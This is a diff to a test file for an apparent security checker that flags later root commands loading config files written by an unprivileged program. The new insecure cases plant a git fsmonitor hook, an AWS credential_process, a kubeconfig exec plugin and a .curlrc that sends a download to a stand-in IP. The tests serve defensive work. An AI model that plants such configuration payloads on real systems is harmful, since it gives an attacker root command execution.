@@ -12,7 +12,7 @@
 // None host (asyncio.start_server, socket.create_server, socketserver, wsgiref); distutils.spawn, os.posix_spawn;
 // secure twins (data files read, archived or hashed; loopback and constant-answer servers; pip options that narrow
 // nothing; --isolated under a moved HOME).
-// Misses (37 insecure accepted, 8 secure refused), by class:
+// Misses (42 insecure accepted, 9 secure refused), by class:
 // - ROOT-READER-DIR (26 insecure): cdi-etc, cdi-run, cdi-var-run, sysext-var-lib, sysext-run, sysext-etc,
 //   confext-var-lib, confext-run, tuned-profile, snmpd-extend, salt-minion, newrelic-exec, nvidia-ctk, datadog-check,
 //   zabbix-userparam, incron, smartd-exec, wireguard-postup, openvpn-up, dnsmasq-script, keepalived-notify,
@@ -24,9 +24,13 @@
 //   got []; a write accepted under PROGRAM_DATA_PATHS is not recorded as changed, so a later shell line that runs,
 //   sources, installs, copies or links the file takes it for the image's. Fix: every path a root program may write
 //   is unknown content (view.changed) for every later reader.
-// - PIP-PLAIN-OPTIONS (6 secure): root-user-action-space, progress-bar-space, prefer-binary, timeout-retries,
-//   no-compile, pre: options that change neither source nor target withdraw pip trust. Fix: an allowlist by effect,
-//   both optparse spellings.
+// - ENV-NAMED-CONFIG (5 insecure): git-config-global-env, git-xdg-config, aws-config-file-env, kubeconfig-env-exec,
+//   curl-home-curlrc: got []; round 81 follows a moved HOME only; a program's file that a later root command loads
+//   through GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME, AWS_CONFIG_FILE, KUBECONFIG or CURL_HOME is data. Fix: one table of
+//   configuration-locating variables; a program's write below what one names is a configuration write.
+// - PIP-PLAIN-OPTIONS (7 secure): root-user-action-space, progress-bar-space, prefer-binary, timeout-retries,
+//   no-compile, pre, isolated-plain: options that change neither source nor target withdraw pip trust. Fix: an
+//   allowlist by effect, both optparse spellings.
 // - PIP-ISOLATED-HOME (1 secure): home-moved-isolated: a moved HOME withdraws trust although --isolated reads no user
 //   configuration.
 // - CWD-DATA-SHADOW (1 secure): data-json-load: -c in a directory where a program wrote state.json is refused as
@@ -34,7 +38,7 @@
 // Not reported (README DECIDED rounds 58 and 69: the operator's downloads and package files are the operator's):
 // tar -x -C /, rpm -i, dnf install, ctr images import, a wheel's .pth of a download a program fetched; an install
 // from another index with no import (a later interpreter runs its .pth: same decision).
-// Held: 26 of 63 insecure refused; 14 of 22 secure clean.
+// Held: 26 of 68 insecure refused; 14 of 23 secure clean.
 import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";
 
 const dev = devNodeCase;
@@ -953,6 +957,95 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // ===== G. configuration files named by an environment variable (round 81's moved HOME, by other names) =====
+    // git-config(1) ENVIRONMENT: GIT_CONFIG_GLOBAL names the global file; core.fsmonitor (git-config(1)) is a command
+    // git runs (root) on status.
+    // MISS: insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
+    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
+    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
+    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
+    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
+    // write into root-read configuration.
+    dev(
+        "tune.py writes /var/lib/ops/gitcfg (core.fsmonitor); GIT_CONFIG_GLOBAL=it git status",
+        tune(
+            "dev-py82-git-config-global-env-rt82p",
+            writes("/var/lib/ops/gitcfg", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
+            ["GIT_CONFIG_GLOBAL=/var/lib/ops/gitcfg git -C /var/lib/ops status"],
+        ),
+        REFUSED,
+        true,
+    ),
+    // git-config(1) FILES: "$XDG_CONFIG_HOME/git/config".
+    // MISS: insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
+    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
+    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
+    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
+    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
+    // write into root-read configuration.
+    dev(
+        "tune.py writes /var/lib/ops/cfg/git/config; XDG_CONFIG_HOME=/var/lib/ops/cfg git status",
+        tune(
+            "dev-py82-git-xdg-config-rt82p",
+            writes("/var/lib/ops/cfg/git/config", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
+            ["XDG_CONFIG_HOME=/var/lib/ops/cfg git -C /var/lib/ops status"],
+        ),
+        REFUSED,
+        true,
+    ),
+    // AWS CLI user guide "Configuration and credential file settings": AWS_CONFIG_FILE names the config file;
+    // credential_process is a command the CLI runs (root).
+    // MISS: insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
+    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
+    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
+    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
+    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
+    // write into root-read configuration.
+    dev(
+        "tune.py writes /var/lib/ops/awscfg (credential_process); AWS_CONFIG_FILE=it aws sts get-caller-identity",
+        tune(
+            "dev-py82-aws-config-file-env-rt82p",
+            writes("/var/lib/ops/awscfg", `[default]\ncredential_process = /bin/sh -c "${SHELL_LINE}"\n`),
+            ["AWS_CONFIG_FILE=/var/lib/ops/awscfg aws sts get-caller-identity"],
+        ),
+        REFUSED,
+        true,
+    ),
+    // Kubernetes docs "client-go credential plugins": a kubeconfig's users[].user.exec.command runs.
+    // MISS: insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
+    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
+    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
+    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
+    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
+    // write into root-read configuration.
+    dev(
+        "tune.py writes /var/lib/ops/kc (exec plugin); KUBECONFIG=it kubectl get nodes",
+        tune(
+            "dev-py82-kubeconfig-env-exec-rt82p",
+            writes(
+                "/var/lib/ops/kc",
+                `apiVersion: v1\nkind: Config\nusers:\n- name: x\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: ["-c", "${SHELL_LINE}"]\n`,
+            ),
+            ["KUBECONFIG=/var/lib/ops/kc kubectl get nodes"],
+        ),
+        REFUSED,
+        true,
+    ),
+    // curl(1) "-K, --config": default file "$CURL_HOME/.curlrc" (then HOME's): `output`/`url` redirect the download.
+    // MISS: insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
+    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
+    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
+    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
+    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
+    // write into root-read configuration.
+    dev(
+        "tune.py writes /var/lib/ops/.curlrc; CURL_HOME=/var/lib/ops curl -o /usr/local/bin/x https://...",
+        tune("dev-py82-curl-home-curlrc-rt82p", writes("/var/lib/ops/.curlrc", 'url = "http://203.0.113.7/x"\n'), [
+            "CURL_HOME=/var/lib/ops curl -fsSL -o /usr/local/bin/ops-agent https://downloads.example.com/ops-agent && chmod +x /usr/local/bin/ops-agent && /usr/local/bin/ops-agent",
+        ]),
+        REFUSED,
+        true,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -1147,6 +1240,18 @@ const secure: NodeCase[] = [
         tune("dev-py82-data-gzip-log-rt82p", writes("/var/log/ops/tune.log", "done"), [
             "gzip -f /var/log/ops/tune.log",
         ]),
+    ),
+    // pip docs general options: --isolated ignores environment variables and user configuration (narrows only).
+    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
+    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
+    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
+    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
+    dev(
+        "pip3 install --isolated tenacity; import",
+        thenImport("dev-py82-isolated-plain-rt82p", ["pip3 install --isolated tenacity"]),
+        undefined,
+        true,
     ),
 ];
 
